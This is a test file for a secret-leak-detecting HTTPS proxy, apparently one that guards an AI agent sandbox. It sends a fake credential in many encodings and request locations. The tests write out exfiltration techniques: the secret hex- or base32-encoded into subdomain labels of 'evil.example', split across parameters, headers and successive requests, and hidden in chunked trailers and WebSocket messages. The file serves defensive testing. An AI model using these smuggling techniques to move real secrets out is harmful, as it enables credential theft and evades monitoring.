// The leak test: a real value in every form, at every place of a request, by curl through the proxy as a process of its own,
// under each of the three actions; then requests that hold nothing, none of which may be stopped. `npm run leaktest` writes what
// came out to docs/leaktest.md.
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import tls from 'node:tls';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Flow } from '../../src/core/flows/flow';
import type { BoundSecret } from '../../src/core/secrets/types';
import { WebSocket, WebSocketServer } from 'ws';
import { benignRequests } from '../support/benign';
import { GuardedFixture } from '../support/guarded';
import { testLeaf } from '../support/pki';
import { ProxyProcess } from '../support/proxyProcess';
import { connectTls } from '../support/rawClient';
import { AUTH, TOKEN } from '../support/wire';
import { document } from './document';
import { FORMS } from './forms';
import { PLACES, fileMaker } from './places';

/** With every character that one of the forms changes. Made from parts, so that no scanner takes it for a real one. */
const REAL = ['Zx9+kQ/7LmP=', '2wVb&8tRn-4sHc_6yGd'].join('');
const DUMMY = ['Dd0dDd0d0DdD', 'd0DdDd0dDd0dDd0dDd0'].join('');
const SECRET: BoundSecret = {
  name: 'LEAKED',
  value: REAL,
  dummy: DUMMY,
  hosts: ['api.example.com'],
  in: ['header:x-api-key'],
};
const ACTIONS = ['block', 'mask', 'mark'] as const;
type Action = (typeof ACTIONS)[number];

let proxy: ProxyProcess;
const directory = mkdtempSync(path.join(os.tmpdir(), 'sandbox-agent-leak-'));
const origins = new Map<Action, https.Server>();
/** Everything that an origin got, by the number of the cell: head, and body as it came and decoded. */
const received = new Map<string, string>();
const portOf = (action: Action) => (origins.get(action)!.address() as AddressInfo).port;

beforeAll(async () => {
  const rules: string[] = [];
  // Leaves need the CA of the proxy's fixture, which needs the ports: the origins come first, with a context set later.
  for (const action of ACTIONS) {
    const server = https.createServer((request, response) => {
      const parts: Buffer[] = [];
      request.on('data', (part: Buffer) => parts.push(part));
      request.on('end', () => {
        const body = Buffer.concat(parts);
        const cell = String(request.headers['x-cell']);
        const texts = [`${request.url!}\n${request.rawHeaders.join('\n')}`, body.toString('latin1')];
        texts.push(decoded(body, request.headers['content-encoding']).toString('latin1'));
        received.set(cell, texts.join('\n'));
        response.end('ok');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origins.set(action, server);
    rules.push(
      `  - { type: allow, addresses: any, detection: ${action}, condition: { match: { host: localhost, port: ${portOf(action)} } } }`,
    );
  }
  proxy = await ProxyProcess.start(`version: 1\nmode: enforce\nrules:\n${rules.join('\n')}\n`, {
    secrets: [SECRET],
    record: true,
  });
  const leaf = testLeaf(proxy.originCa);
  for (const server of origins.values()) server.setSecureContext({ cert: leaf.cert, key: leaf.key });
  writeFileSync(path.join(directory, 'ca.pem'), proxy.proxyCa.cert);
});

afterAll(async () => {
  for (const server of origins.values()) server.close();
  await proxy.close();
  rmSync(directory, { recursive: true, force: true });
});

function decoded(body: Buffer, coding: string | undefined): Buffer {
  if (coding === 'gzip') return zlib.gunzipSync(body);
  return coding === 'br' ? zlib.brotliDecompressSync(body) : Buffer.alloc(0);
}

interface Cell {
  readonly id: string;
  readonly form: string;
  readonly place: string;
  readonly action: Action;
  /** As it was sent. */
  readonly sent: string;
  readonly masks: boolean;
  readonly lines: readonly string[];
}

const file = fileMaker(directory);

/** All cells of one place and action; those that cannot be are left out. */
function cellsOf(place: (typeof PLACES)[number], action: Action): Cell[] {
  return FORMS.flatMap(({ name, encode }) => {
    const form = encode(REAL);
    const arranged = place.arrange(form, file);
    if (!arranged) return [];
    const id = `${PLACES.indexOf(place)}-${FORMS.findIndex((one) => one.name === name)}-${action}`;
    const lines = [
      `url = "https://localhost:${portOf(action)}${arranged.url}"`,
      `proxy = "http://claude:${TOKEN}@127.0.0.1:${proxy.proxyPort}"`,
      `cacert = "${path.join(directory, 'ca.pem')}"`,
      `header = "X-Cell: ${id}"`,
      'output = "/dev/null"',
      'write-out = "%{http_code}\\n"',
      'path-as-is',
      'globoff',
      'silent',
      ...arranged.lines,
    ];
    return [
      {
        id,
        form: name,
        place: place.name,
        action,
        sent: Buffer.from(form).toString('latin1'),
        masks: place.masks,
        lines,
      },
    ];
  });
}

/** One curl for all of them. Resolves to their status codes. */
async function send(cells: readonly Cell[]): Promise<string[]> {
  const config = path.join(directory, `config-${cells[0]!.id}`);
  writeFileSync(config, cells.map(({ lines }) => lines.join('\n')).join('\nnext\n'));
  const output = await new Promise<string>((resolve) => {
    execFile('curl', ['--config', config], { env: { PATH: process.env['PATH'] } }, (_, stdout) => resolve(stdout));
  });
  return output.trim().split('\n');
}

/** `undefined`: as it should be. */
function judge({ id, sent, action, masks, place }: Cell, status: string, flow: Flow | undefined): string | undefined {
  const got = received.get(id);
  const finding = flow?.findings.find(({ kind, secret }) => kind === 'real-value' && secret === SECRET.name);
  if (!finding) return 'no finding';
  if (action === 'mark')
    // Basic credentials hold it in base64.
    return status === '200' && (place === 'Basic' || got?.includes(sent) === true) && finding.action === 'marked'
      ? undefined
      : 'not marked';
  if (got?.includes(sent) === true || got?.includes(REAL) === true) return 'LEAKED';
  if (action === 'mask' && masks && finding.action === 'masked')
    return status === '200' ? undefined : `status ${status}`;
  return status === '403' && finding.action === 'blocked' ? undefined : `status ${status}, ${finding.action}`;
}

/** By form, then place, then action: what became of it. */
const results = new Map<string, Map<string, string[]>>();

describe.each(PLACES)('in $name', (place) => {
  it.each(ACTIONS)('%s', async (action) => {
    const cells = cellsOf(place, action);
    const statuses = await send(cells);
    expect(statuses).toHaveLength(cells.length);
    const flowOf = (cell: Cell) =>
      [...proxy.flows.values()].find(({ requestHeaders }) =>
        requestHeaders.some(([name, value]) => name.toLowerCase() === 'x-cell' && value === cell.id),
      );
    await proxy.until(() => cells.every((cell) => (flowOf(cell)?.outcome ?? 'open') !== 'open'));
    const wrong: string[] = [];
    for (const [i, cell] of cells.entries()) {
      const flow = flowOf(cell);
      const problem = judge(cell, statuses[i]!, flow);
      const row = results.get(cell.form) ?? new Map<string, string[]>();
      results.set(cell.form, row);
      const shown = problem ?? flow!.findings.find(({ kind }) => kind === 'real-value')!.action;
      row.set(cell.place, [...(row.get(cell.place) ?? []), shown]);
      if (problem) wrong.push(`${cell.form}: ${problem}`);
    }
    expect(wrong).toEqual([]);
  });
});

describe('where no line of curl reaches', () => {
  /** The flow of the last request that was sent, when it is over. */
  async function last(mark: string): Promise<Flow> {
    const find = () =>
      [...proxy.flows.values()].find(
        ({ requestHeaders, host }) => host.includes(mark) || requestHeaders.some(([, value]) => value === mark),
      );
    await proxy.until(() => (find()?.outcome ?? 'open') !== 'open');
    return find()!;
  }
  const connect = (authority = `localhost:${portOf('block')}`) =>
    connectTls({ proxyPort: proxy.proxyPort, authority, auth: AUTH, ca: proxy.proxyCa.cert });
  const blocked = (flow: Flow, place: string) => {
    expect(flow.outcome).toBe('blocked');
    expect(flow.findings).toContainEqual(
      expect.objectContaining({ kind: 'real-value', secret: 'LEAKED', place, action: 'blocked' }),
    );
  };
  /** Heads on one connection after the other. */
  async function get(target: string, fields: string): Promise<string> {
    const client = await connect();
    return client
      .write(`GET ${target} HTTP/1.1\r\nHost: localhost:${portOf('block')}\r\nConnection: close\r\n${fields}\r\n`)
      .end();
  }

  it('a trailer', async () => {
    const client = await connect();
    client.write(
      `POST / HTTP/1.1\r\nHost: localhost:${portOf('block')}\r\nX-Cell: trailer\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX-T: ${REAL}\r\n\r\n`,
    );
    expect(await client.end()).toMatch(/^HTTP\/1\.1 403 /);
    blocked(await last('trailer'), 'trailer');
  });

  it('a name of a field', async () => {
    const name = Buffer.from(REAL).toString('hex');
    expect(await get('/', `X-Cell: name\r\nX-${name}: 1\r\n`)).toMatch(/^HTTP\/1\.1 403 /);
    blocked(await last('name'), 'header name');
  });

  it.each([
    ['hex', Buffer.from(REAL).toString('hex')],
    [
      'base32',
      FORMS.find(({ name }) => name === 'base32, lower case')!
        .encode(REAL)
        .toString()
        .replaceAll('=', ''),
    ],
  ])('labels of a host, in %s: refused before anybody is asked for its address', async (_, text) => {
    const host = `${text.match(/.{1,20}/g)!.join('.')}.evil.example`;
    const client = await connect(`${host}:443`);
    client.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
    // No rule allows it either; what counts is that it is called by its name.
    expect(await client.end()).toMatch(/^HTTP\/1\.1 403 /);
  });

  it('pieces over parameters, fields, and one request after the other', async () => {
    const pieces = REAL.match(/.{1,8}/g)!.map(encodeURIComponent);
    expect(await get(`/?${pieces.map((piece, i) => `p${i}=${piece}`).join('&')}`, 'X-Cell: parameters\r\n')).toMatch(
      /^HTTP\/1\.1 403 /,
    );
    blocked(await last('parameters'), 'several parts');
    const hex = Buffer.from(REAL)
      .toString('hex')
      .match(/.{1,16}/g)!;
    expect(await get('/', `X-Cell: fields\r\n${hex.map((piece, i) => `X-P${i}: ${piece}\r\n`).join('')}`)).toMatch(
      /^HTTP\/1\.1 403 /,
    );
    blocked(await last('fields'), 'several parts');
    const answers: string[] = [];
    for (const [i, piece] of Buffer.from(REAL)
      .toString('base64url')
      .match(/.{1,9}/g)!
      .entries())
      answers.push((await get(`/?i=${i}&d=${piece}`, `X-Cell: window-${i}\r\n`)).slice(9, 12));
    // The last piece, or one before it that leaves nothing to guess.
    // Of the pieces that are left then, each passes as any text does.
    expect(answers).toContain('403');
  });

  it.each(ACTIONS)('a message of a WebSocket, %s', async (action) => {
    const messages: string[] = [];
    const server = new WebSocketServer({ server: origins.get(action)! });
    server.on('connection', (socket) =>
      socket.on('message', (data: Buffer) => {
        messages.push(data.toString());
        socket.send('got it');
      }),
    );
    for (const { name, encode } of FORMS) {
      const form = encode(REAL);
      const { socket } = await connect(`localhost:${portOf(action)}`);
      const client = new WebSocket(`wss://localhost:${portOf(action)}/`, { createConnection: () => socket as never });
      await new Promise((resolve) => client.once('open', resolve));
      messages.length = 0;
      client.send(typeof form === 'string' ? `text ${form} more` : form, { binary: typeof form !== 'string' });
      const how = await new Promise<string>((resolve) => {
        client.once('message', () => resolve('passed'));
        client.once('close', (code: number) => resolve(String(code)));
      });
      client.terminate();
      const text = Buffer.from(form).toString();
      const row = results.get(name)!;
      const shown = how === '1008' ? 'blocked' : messages.some((one) => one.includes(text)) ? 'marked' : 'masked';
      row.set('WebSocket', [...(row.get('WebSocket') ?? []), shown]);
      if (action === 'block') expect([name, how]).toEqual([name, '1008']);
      if (action === 'mark') expect([name, shown]).toEqual([name, 'marked']);
      if (action === 'mask') expect([name, shown]).not.toEqual([name, 'marked']);
    }
    server.close();
  });
});

describe('ordinary requests', () => {
  it('are none of them stopped, nor changed', async () => {
    const fixture = await GuardedFixture.open(
      'wire',
      'version: 1\nmode: monitor\ndefault: allow\nrules:\n  - { type: allow, addresses: any, acknowledge: any-host, condition: { match: { port: any } } }\n',
      [SECRET],
      { lookup: () => Promise.resolve(['127.0.0.1']) },
    );
    const bodies = new Map<string, Buffer>();
    const server = https.createServer(
      {
        SNICallback: (name, done) => done(null, tls.createSecureContext(testLeaf(fixture.originCa, name))),
      },
      (request, response) => {
        const parts: Buffer[] = [];
        request.on('data', (part: Buffer) => parts.push(part));
        request.on('end', () => {
          bodies.set(String(request.headers['x-cell']), Buffer.concat(parts));
          response.end('ok');
        });
      },
    );
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    writeFileSync(path.join(directory, 'benign-ca.pem'), fixture.proxyCa.cert);
    const requests = benignRequests([DUMMY]);
    expect(requests.length).toBeGreaterThanOrEqual(200);
    const lines = requests.map(({ host, path: target, method, headers, body }, i) =>
      [
        `url = "https://${host}:${port}${target.replaceAll('"', '%22')}"`,
        `request = "${method}"`,
        `proxy = "http://claude:${TOKEN}@127.0.0.1:${fixture.proxyPort}"`,
        `cacert = "${path.join(directory, 'benign-ca.pem')}"`,
        ...Object.entries({ ...headers, 'X-Cell': String(i), Expect: '' }).map(
          ([name, value]) => `header = "${`${name}: ${value}`.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`,
        ),
        ...(body.length > 0 ? [`data-binary = "@${file(Buffer.from(body))}"`] : []),
        'output = "/dev/null"',
        'write-out = "%{http_code}\\n"',
        'path-as-is',
        'globoff',
        'silent',
      ].join('\n'),
    );
    const config = path.join(directory, 'benign');
    writeFileSync(config, lines.join('\nnext\n'));
    const output = await new Promise<string>((resolve) => {
      execFile('curl', ['--config', config], { env: { PATH: process.env['PATH'] } }, (_, stdout) => resolve(stdout));
    });
    const statuses = output.trim().split('\n');
    const stopped = requests.flatMap(({ name, host }, i) =>
      statuses[i] === '200' ? [] : [`${name} ${host} ${statuses[i]!}`],
    );
    expect(stopped).toEqual([]);
    for (const [i, { body, name }] of requests.entries())
      expect([name, Buffer.from(body).equals(bodies.get(String(i))!)]).toEqual([name, true]);
    const found = (await fixture.until((all) => all.length >= requests.length)).flatMap(({ findings }) => findings);
    // A conversation that mentions a dummy is recorded as such.
    expect(found.filter(({ kind }) => kind !== 'dummy-unbound' && kind !== 'dummy-elsewhere')).toEqual([]);
    expect(found.filter(({ action }) => action !== 'marked')).toEqual([]);
    server.close();
    await fixture.close();
  });
});

it('nothing that was written down holds the value', () => {
  const written = JSON.stringify([...proxy.flows.values()]) + proxy.log.join('\n');
  for (const text of [
    REAL,
    Buffer.from(REAL).toString('base64'),
    Buffer.from(REAL).toString('hex'),
    encodeURIComponent(REAL),
  ])
    expect(written).not.toContain(text);
});

const LETTER: Readonly<Record<string, string>> = { blocked: 'B', masked: 'M', marked: 'm' };

it.runIf(process.env['LEAKTEST_DOCUMENT'])('writes what came out', () => {
  writeFileSync(
    process.env['LEAKTEST_DOCUMENT']!,
    document({
      results,
      places: [...PLACES.map(({ name }) => name), 'WebSocket'],
      letter: (shown) => LETTER[shown] ?? `**${shown}**`,
      benign: benignRequests([DUMMY]).length,
    }),
  );
});
